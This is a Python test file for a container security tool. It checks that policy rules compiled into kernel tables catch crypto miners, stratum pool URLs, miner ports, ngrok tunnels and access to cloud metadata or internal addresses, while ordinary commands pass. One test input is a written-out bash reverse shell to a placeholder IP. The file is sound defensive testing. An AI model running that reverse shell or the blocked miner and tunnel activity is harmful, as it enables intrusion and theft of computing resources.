"""Policy → kernel tables, checked through the Python emulation of the kernel's matching."""

from __future__ import annotations

import ipaddress

import pytest

from pycontain.core.events import MAX_PATTERNS, PATTERN_LEN, ConfigFlag, Mode, PatternWhere
from pycontain.core.kernel_rules import compile_policy, compile_report, exec_verdict, kernel_verdict, net_verdict
from pycontain.core.policy import builtin_policy, load_policy_text


@pytest.fixture(scope="module")
def default():
    return compile_policy(builtin_policy("default"))


def exec_rule(t, argv, filename=None):
    rid = exec_verdict(t, filename=filename or f"/usr/bin/{argv[0]}", argv=argv)
    return t.rules.get(rid) if rid else None


ORDINARY = [
    ["grep", "-R", "foo", "."], ["cp", "-R", "a", "b"], ["ssh", "host", "uptime"], ["git", "push"],
    ["curl", "https://pypi.org/simple/"], ["python3", "train.py", "--lr", "0.1"], ["pip", "install", "torch"],
    ["ls", "-lR"], ["rsync", "-avR", "a", "b"], ["dig", "example.org"], ["bash", "-c", "echo hi"],
    ["nvidia-smi"], ["tar", "-xzf", "x.tgz"], ["make", "-j8"], ["wget", "https://example.org/file"],
    ["ssh", "-p", "2222", "host", "grep", "-R", "x", "/"], ["scp", "-r", "a", "host:b"],
]


@pytest.mark.parametrize("argv", ORDINARY, ids=lambda a: " ".join(a))
def test_ordinary_commands_are_not_hit_in_the_kernel(default, argv):
    assert exec_rule(default, argv) is None


@pytest.mark.parametrize("argv,filename", [
    (["xmrig"], "/tmp/xmrig"),
    (["XMRig"], "/tmp/XMRig"),                                # case
    (["python3"], "/tmp/.cache/xmrig"),                       # renamed argv[0]: the real file name counts
    (["kworker"], "/dev/shm/cpuminer-opt"),
    (["t"], "/tmp/MyMinerBuild"),                             # *miner* in any case
    (["python3", "x.py", "-o", "StRaTuM+TcP://pool:3333"], "/usr/bin/python3"),
    (["a", "--url=stratum2+ssl://p:1"], "/usr/bin/a"),
    (["a", "--donate-level=1"], "/usr/bin/a"),
    (["a", "--algo", "RandomX"], "/usr/bin/a"),
    (["a", "-a", "kawpow"], "/usr/bin/a"),
    (["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"], "/bin/bash"),
    (["ngrok", "tcp", "22"], "/usr/local/bin/ngrok"),
])
def test_miners_and_tunnels_are_hit_in_the_kernel(default, argv, filename):
    assert exec_rule(default, argv, filename) is not None


def test_rule_names_are_stable(default):
    t = default
    assert t.rules[1] == "network.default"
    rid = exec_verdict(t, filename="/tmp/xmrig", argv=["xmrig"])
    assert t.rules[rid] == "exec.deny:xmrig"
    rid = exec_verdict(t, filename="/bin/a", argv=["a", "stratum+tcp://x"])
    assert t.rules[rid] == "exec.deny_args:*stratum+*"


def test_kernel_limits_are_respected(default):
    assert len(default.exec_patterns) <= MAX_PATTERNS
    for pat, where, rid in default.exec_patterns:
        assert pat == pat.lower() and 0 < len(pat.encode()) <= PATTERN_LEN and rid in default.rules
        assert where in (PatternWhere.BASENAME, PatternWhere.ARGS)
    for name in default.exec_names:
        assert name == name.lower() and len(name.encode()) <= 63
    # an args pattern as short as a flag would kill `grep -R`: never emitted
    assert all(len(p) >= 4 for p, w, _ in default.exec_patterns if w == PatternWhere.ARGS)


def test_flags_and_mode():
    t = compile_policy(builtin_policy("default"))
    assert t.flags & ConfigFlag.DETECT_STRATUM and t.flags & ConfigFlag.DENY_RAW and t.flags & ConfigFlag.DENY_PACKET
    assert not t.flags & ConfigFlag.NET_DEFAULT_DENY and t.mode == Mode.ENFORCE
    s = compile_policy(load_policy_text("mode: monitor\nnetwork: {default: deny}\n"))
    assert s.mode == Mode.MONITOR and s.flags & ConfigFlag.NET_DEFAULT_DENY


def test_ports(default):
    assert default.rules[default.ports[3333][0]] == "miner-pool-ports"
    assert net_verdict(default, protocol="tcp", daddr="198.51.100.7", dport=3333)
    assert net_verdict(default, protocol="udp", daddr="198.51.100.7", dport=4444)
    for port in (22, 53, 80, 443):
        assert net_verdict(default, protocol="tcp", daddr="198.51.100.7", dport=port) == 0
    t = compile_policy(load_policy_text("network:\n  deny:\n    - {port_range: '5555-5557', protocol: tcp}\n"))
    assert [p for p in sorted(t.ports)] == [5555, 5556, 5557]
    assert t.ports[5556][0] and t.ports[5556][1] == 0               # tcp only
    assert net_verdict(t, protocol="udp", daddr="198.51.100.1", dport=5556) == 0


def test_metadata_and_internal():
    t = compile_policy(builtin_policy("strict"))
    for addr in ("169.254.169.254", "10.1.2.3", "192.168.1.1", "100.64.0.1", "fd00:ec2::254", "fc00::1"):
        rid = net_verdict(t, daddr=addr, dport=443)
        assert rid and t.rules[rid].startswith("network.deny_"), addr
    assert net_verdict(t, daddr="127.0.0.1", dport=8080) == 0          # loopback allowed
    assert net_verdict(t, daddr="::ffff:127.0.0.1", dport=8080) == 0   # v4-mapped
    assert t.rules[net_verdict(t, daddr="198.51.100.9", dport=443)] == "network.default"


def test_resolved_hosts_become_allow_entries():
    p = builtin_policy("strict")
    t = compile_policy(p, {"pypi.org": ["198.51.100.20"], "huggingface.co": ["2001:db8::20"]})
    assert net_verdict(t, daddr="198.51.100.20", dport=443) == 0
    assert net_verdict(t, daddr="2001:db8::20", dport=443) == 0
    assert net_verdict(t, daddr="198.51.100.21", dport=443) == 1
    assert (ipaddress.ip_network("198.51.100.20/32"), t.allow4[-1][1]) in t.allow4 or \
        any(n == ipaddress.ip_network("198.51.100.20/32") for n, _ in t.allow4)


def test_longest_prefix_wins_between_deny_entries():
    t = compile_policy(load_policy_text("network:\n  deny:\n"
                                        "    - cidr: 198.51.100.0/24\n    - cidr: 198.51.100.128/25\n"))
    assert t.rules[net_verdict(t, daddr="198.51.100.200", dport=1)] == "network.deny:198.51.100.128/25"
    assert t.rules[net_verdict(t, daddr="198.51.100.2", dport=1)] == "network.deny:198.51.100.0/24"


def test_event_like_inputs(default):
    from test_engine import exec_event, net_event
    assert kernel_verdict(default, exec_event(b"/tmp/xmrig", [b"xmrig"])) != 0
    assert kernel_verdict(default, net_event("198.51.100.1", 3333)) != 0
    assert kernel_verdict(default, {"kind": "connect", "daddr": "198.51.100.1", "dport": 443}) == 0


def test_records_dispatch_to_exec_and_net_verdicts(default):
    rec = {"kind": "exec", "filename": "/tmp/xmrig", "argv": ["xmrig"]}
    assert kernel_verdict(default, rec) == exec_verdict(default, "/tmp/xmrig", ["xmrig"]) != 0
    rec = {"kind": "send", "protocol": "udp", "daddr": "198.51.100.7", "dport": 4444}
    assert kernel_verdict(default, rec) == net_verdict(default, "198.51.100.7", 4444, "udp") != 0
    # other kinds never carry a kernel exec/connect verdict
    assert kernel_verdict(default, {"kind": "stratum", "daddr": "198.51.100.7", "dport": 4444}) == 0
    assert kernel_verdict(default, {"kind": "fork"}) == 0


def test_compile_report_says_where_each_rule_runs():
    lines = compile_report(builtin_policy("default"))
    assert any(l.startswith("exec.deny:xmrig (exec.deny[0]) 'xmrig': kernel") for l in lines)
    assert any(l.startswith("exec.deny_program_args:ssh -R* (exec.deny_program_args[0])") and "user space" in l
               for l in lines)
    assert any(l.startswith("miner-pool-ports (network.deny[0])") and "kernel" in l for l in lines)
